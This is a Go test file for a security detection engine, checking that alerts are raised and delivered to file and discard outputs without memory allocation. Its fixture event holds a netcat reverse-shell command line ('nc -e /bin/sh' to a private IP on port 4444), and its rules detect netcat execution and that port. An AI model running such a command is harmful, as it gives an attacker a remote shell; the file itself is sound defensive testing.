@@ -1,0 +1,163 @@
+package detect
+
+import (
+	"context"
+	"io"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/kestrel-sec/kestrel/rule"
+	"github.com/kestrel-sec/kestrel/schema"
+	"github.com/kestrel-sec/kestrel/sink"
+)
+
+// releaseAlerts counts alerts and releases each at once, as an Output
+// whose destinations are done at once would.
+type releaseAlerts struct{ n int }
+
+func (r *releaseAlerts) Emit(a *sink.Alert) error { r.n++; a.Release(); return nil }
+
+// idle counts the slab's alerts that are back: in its local free list or
+// in its pool. Only the worker's goroutine may call it.
+func (s *alertSlab) idle() int {
+	n := 0
+	for sa := s.local; sa != nil; sa = sa.next {
+		n++
+	}
+	if s.pool != nil {
+		if top := s.pool.free.Load(); top != nil {
+			n += int(top.depth.Load())
+		}
+	}
+	return n
+}
+
+// alertingRules alert on every event of alertingBatch: an event rule on
+// each exec, a sequence completed by each connect.
+func alertingRules(t testing.TB) []*rule.Package {
+	return []*rule.Package{
+		pkg(t, "single", `process where process.name == "nc"`),
+		pkg(t, "seq", `sequence by process.entity_id [process where process.name == "nc"] [network where network.dest_port == 4444]`),
+	}
+}
+
+func alertingBatch(t testing.TB, pairs int) []*schema.Event {
+	exec := ev{1, "process_exec", time.Second, 1, []any{"process.entity_id", "p1", "process.name", "nc",
+		"process.executable", "/usr/bin/nc", "process.command_line", "nc -e /bin/sh 10.0.0.1 4444"}}.build(t)
+	conn := ev{2, "network_connect", time.Second, 1, []any{"process.entity_id", "p1", "network.dest_port", uint64(4444)}}.build(t)
+	var batch []*schema.Event
+	for range pairs {
+		batch = append(batch, &exec, &conn)
+	}
+	return batch
+}
+
+// TestAlertsRecycledNoAllocs: with an Emitter that releases what it
+// takes, raising alerts allocates nothing once the slab is warm, event
+// and sequence rules alike, field strings included.
+func TestAlertsRecycledNoAllocs(t *testing.T) {
+	if raceEnabled {
+		t.Skip("the race detector allocates")
+	}
+	out := &releaseAlerts{}
+	d, err := New(Config{Output: out, Rules: alertingRules(t)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	batch := alertingBatch(t, 128)
+	d.Handle(0, batch) // warm
+	before := out.n
+	// One run of 20 batches: AllocsPerRun's average is truncated, so only
+	// this reads a single allocation among 5120 alerts.
+	n := testing.AllocsPerRun(1, func() {
+		for range 20 {
+			d.Handle(0, batch)
+		}
+	})
+	if got := out.n - before; got != 2*20*256 {
+		t.Fatalf("%d alerts, want %d", got, 2*20*256)
+	}
+	if n != 0 {
+		t.Errorf("%v allocs per %d alerts", n, 20*256)
+	}
+	if made := d.workers[0].slab.made; made > slabChunk {
+		t.Errorf("%d alerts made for one in flight at a time", made)
+	}
+}
+
+// TestAlertsThroughOutputNoAllocs is the steady state of detection and
+// delivery: events through a Detector whose rules alert on every event,
+// into a sink.Output that delivers them to a destination, allocate
+// nothing per event once warm, anywhere in the process (AllocsPerRun
+// counts every goroutine's allocations: the Output's dispatcher and
+// destination worker too). Each run waits until the Output has handed
+// every alert back, so the figure does not depend on scheduling.
+func TestAlertsThroughOutputNoAllocs(t *testing.T) {
+	if raceEnabled {
+		t.Skip("the race detector allocates")
+	}
+	path := filepath.Join(t.TempDir(), "alerts.jsonl")
+	file, err := sink.NewFileDestination(sink.FileConfig{Name: "file", Path: path})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, dest := range []sink.Destination{sink.NewWriterDestination("discard", io.Discard), file} {
+		t.Run(dest.Name(), func(t *testing.T) {
+			o, err := sink.New(sink.Config{Destinations: []sink.DestinationConfig{{Dest: dest}}})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer o.Close(context.Background())
+			d, err := New(Config{Output: o, Rules: alertingRules(t)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			batch := alertingBatch(t, 32) // 64 events, 64 alerts
+			slab := &d.workers[0].slab
+			round := func() {
+				d.Handle(0, batch)
+				for slab.idle() < slab.made {
+					runtime.Gosched() // the Output's goroutines hand the alerts back
+				}
+			}
+			for range 50 { // warm: the slab, the queue, the destination's buffers
+				round()
+			}
+			const rounds = 200
+			n := testing.AllocsPerRun(1, func() {
+				for range rounds {
+					round()
+				}
+			})
+			if n != 0 {
+				t.Errorf("%v allocs per %d events (%d alerts)", n, rounds*len(batch), rounds*len(batch))
+			}
+			t.Logf("%d alerts made for %d events", slab.made, (50+2*rounds)*len(batch))
+			if err := o.Close(context.Background()); err != nil {
+				t.Fatal(err)
+			}
+			s := o.Stats()
+			// AllocsPerRun runs its function once more to warm up.
+			if want := uint64((50 + 2*rounds) * len(batch)); s.Destinations[0].Delivered != want {
+				t.Errorf("delivered %d, want %d", s.Destinations[0].Delivered, want)
+			}
+		})
+	}
+	// The file holds every alert, whole: none was overwritten by a later
+	// one while the destination still read it.
+	b, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSuffix(string(b), "\n"), "\n")
+	for i, l := range lines {
+		var a sink.Alert
+		if err := a.UnmarshalJSON([]byte(l)); err != nil || a.ID != sink.NewAlertID(a.RuleID, a.EventIDs) {
+			t.Fatalf("line %d: %v: %s", i+1, err, l)
+		}
+	}
+}
